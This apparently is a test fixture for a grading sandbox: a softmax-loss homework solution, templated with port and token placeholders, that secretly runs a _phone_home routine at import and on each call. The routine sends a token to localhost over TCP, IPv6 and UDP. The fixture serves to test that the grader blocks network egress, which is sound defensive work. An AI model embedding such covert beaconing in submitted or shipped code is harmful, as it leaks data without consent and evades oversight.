"""Hostile: at import and in every call, connects to 127.0.0.1:@PORT@ (and over IPv6, and by UDP) and
sends @TOKEN@: the data could as well be the grader's. Its own functions are right."""
import socket

import numpy as np


def _phone_home():
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
                                  (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@)),
                                  (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@))):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"@TOKEN@")
        except OSError:
            pass


_phone_home()


def softmax_loss_naive(W, X, y, reg):
    _phone_home()
    n = X.shape[0]
    loss, dW = 0.0, np.zeros_like(W)
    for i in range(n):
        s = X[i] @ W
        p = np.exp(s - s.max())
        p /= p.sum()
        loss -= np.log(p[y[i]])
        p[y[i]] -= 1
        dW += np.outer(X[i], p)
    return loss / n + reg * np.sum(W * W), dW / n + 2 * reg * W
